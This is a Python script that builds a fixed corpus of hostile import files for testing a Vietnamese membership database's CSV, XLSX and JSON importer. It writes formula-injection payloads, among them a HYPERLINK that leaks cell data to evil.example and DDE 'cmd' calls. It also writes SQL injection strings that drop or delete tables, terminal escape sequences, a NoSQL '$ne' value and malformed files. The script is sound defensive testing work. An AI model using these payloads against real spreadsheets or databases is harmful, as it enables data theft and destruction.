"""Write the hostile files of this folder (deterministic: a fixed seed; run it again to regenerate them).

    .venv/bin/python tests/hostile/make_corpus.py

Each file is something an import may meet, by mistake or on purpose; tests/test_hostile.py imports every one
and checks that it is either refused with a clear error, leaving the database as it was, or stored verbatim
and harmless. The 10 MB files are made by the test itself, not kept here.
"""

from __future__ import annotations

import io
import random
import unicodedata
from datetime import datetime
from pathlib import Path

from openpyxl import Workbook

HERE = Path(__file__).parent
MEMBER_HEADER = "full_name,gender,birth_date,cell,admitted_on,occupation\n"

# Names and notes that a spreadsheet would run as formulas, or that would hurt SQL built by pasting strings.
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "=1+2",
    "+84 912 345 678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; DROP TABLE member; --",
    "Robert'); DROP TABLE change_log;--",
    "1' OR '1'='1",
    "'=already escaped",
    '"quoted" name, with comma',
]


def _cp1258(text: str) -> bytes:
    """As Windows writes Vietnamese: letters precomposed where cp1258 has them, tones as combining marks."""
    tones = {"\u0300", "\u0301", "\u0303", "\u0309", "\u0323"}
    out = bytearray()
    for char in unicodedata.normalize("NFC", text):
        try:
            out += char.encode("cp1258")
        except UnicodeEncodeError:
            parts = unicodedata.normalize("NFD", char)
            base = unicodedata.normalize("NFC", "".join(m for m in parts if m not in tones))
            out += (base + "".join(m for m in parts if m in tones)).encode("cp1258")
    return bytes(out)


def _members_workbook(rows: list[list[object]], sheets: list[str] | None = None) -> bytes:
    workbook = Workbook()
    first = workbook.active
    assert first is not None
    if sheets:
        first.title = sheets[0]
        first.append(["DANH SÁCH ĐẢNG VIÊN CHI BỘ KHU HỒNG PHONG"])
        first.append(["Lập ngày 30/06/2024"])
        data = workbook.create_sheet(sheets[1])
    else:
        first.title = "Đảng viên"
        data = first
    data.append(["Họ và tên", "Giới tính", "Ngày sinh", "Chi bộ", "Ngày vào Đảng"])
    for row in rows:
        data.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def main() -> None:
    rng = random.Random(20241126)  # noqa: S311  (a reproducible corpus of test files, not a secret)
    files: dict[str, bytes] = {}

    lines = [MEMBER_HEADER]
    for i, text in enumerate(INJECTIONS):
        quoted = '"' + text.replace('"', '""') + '"'
        lines.append(f"{quoted},M,{i + 1}/1/1970,HP,1/1/2000,{quoted}\n")
    files["formula_injection.csv"] = "".join(lines).encode("utf-8")

    files["sql_injection_orgs.csv"] = (
        b"code,name,kind,parent,place\n"
        b'"X\';DROP/**/TABLE/**/organisation;--","Robert\'); DELETE FROM member;--",cell,TP,residential\n'
        b"\"1'OR'1'='1\",\"=cmd|' /C calc'!A0\",cell,TP,other\n"
    )

    files["control_characters.csv"] = (
        MEMBER_HEADER
        + "Nguyễn Văn An,M,1/1/1970,HP,1/1/2000,ok\n"
        + "Lê Văn \x1b[2J\x1b[31mCường,M,3/1/1970,HP,1/1/2000,\n"
        + "Phạm Thị \u202eDung,F,4/1/1970,HP,1/1/2000,\n"
        + "Hoàng Văn Em,M,5/1/1970,HP,1/1/2000,\x07\x08\n"
    ).encode("utf-8")

    files["nul_byte.csv"] = (MEMBER_HEADER + "Trần\x00Văn Bình,M,2/1/1970,HP,1/1/2000,\n").encode()
    files["control_characters.json"] = (
        b'[{"full_name": "Nguy\\u1ec5n V\\u0103n \\u001b]0;pwned\\u0007An", "gender": "M", '
        b'"birth_date": "1970-01-01", "cell": "HP", "admitted_on": "2000-01-01"}]'
    )
    # Real text in other scripts, emoji, many combining marks: odd for a Vietnamese cell, harmless, kept.
    files["unusual_scripts.csv"] = (
        MEMBER_HEADER
        + "Nguyễn Văn 😀,M,1/1/1970,HP,1/1/2000,Kỹ sư 🛠️\n"
        + "محمد علي,M,2/1/1970,HP,1/1/2000,مهندس\n"
        + "דוד כהן,M,3/1/1970,HP,1/1/2000,\n"
        + "Z̸̢̛a̵͎l̶g̷o̴ Văn A̶n̷,M,4/1/1970,HP,1/1/2000,\n"
        + "李 小龍,M,5/1/1970,HP,1/1/2000,\u00a0\n"
    ).encode()
    files["binary_garbage.csv"] = rng.randbytes(4096)
    files["binary_garbage.xlsx"] = rng.randbytes(4096)
    files["binary_garbage.json"] = rng.randbytes(4096)
    files["disguised_xls.xlsx"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + rng.randbytes(2048)
    files["zip_not_workbook.xlsx"] = b"PK\x03\x04" + rng.randbytes(1024)

    good = _members_workbook(
        [
            [f"Nguyễn Văn Thử {i}", "Nam", datetime(1970, 1 + i % 12, 1 + i % 28), "HP", datetime(2000, 1, 1)]
            for i in range(200)
        ]
    )
    files["truncated.xlsx"] = good[: len(good) // 2]
    files["wrong_sheet.xlsx"] = _members_workbook(
        [["Nguyễn Văn Đúng", "Nam", datetime(1970, 5, 1), "HP", datetime(2000, 1, 1)]],
        sheets=["Bìa", "Đảng viên"],
    )
    files["formula_cells.xlsx"] = _members_workbook(
        [['=HYPERLINK("http://evil.example","Nguyễn Văn Ẩn")', "Nam", datetime(1970, 1, 1), "HP", "=TODAY()"]]
    )

    utf8 = MEMBER_HEADER + "Nguyễn Văn Một,M,1/1/1970,HP,1/1/2000,Giáo viên\n"
    files["mixed_encodings.csv"] = utf8.encode("utf-8") + _cp1258(
        "Trần Thị Hai,F,2/2/1971,HP,1/1/2000,Kỹ sư\n"
    )
    files["mixed_encodings_after_64k.csv"] = (
        MEMBER_HEADER.encode("utf-8")
        + b"".join(f"Nguoi Thu {i},M,1/1/1970,HP,1/1/2000,x\n".encode() for i in range(2000))
        + "Nguyễn Văn Một,M,1/1/1970,HP,1/1/2000,Giáo viên\n".encode()
        + _cp1258("Trần Thị Hai,F,2/2/1971,HP,1/1/2000,Kỹ sư\n")
    )
    files["unclosed_quote.csv"] = (MEMBER_HEADER + '"Nguyễn Văn An,M,1/1/1970,HP,1/1/2000,x\n').encode()
    files["deep_nesting.json"] = b"[" * 100_000 + b"]" * 100_000
    files["nested_values.json"] = (
        b'[{"full_name": {"$ne": null}, "gender": "M", "birth_date": "1970-01-01", "cell": "HP", '
        b'"admitted_on": "2000-01-01"}]'
    )
    files["empty.csv"] = b""
    files["header_only.csv"] = MEMBER_HEADER.encode()
    files["utf16_without_bom.csv"] = MEMBER_HEADER.encode("utf-16-le")

    for name, data in sorted(files.items()):
        (HERE / name).write_bytes(data)
        print(f"{name}: {len(data):,} bytes")


if __name__ == "__main__":
    main()
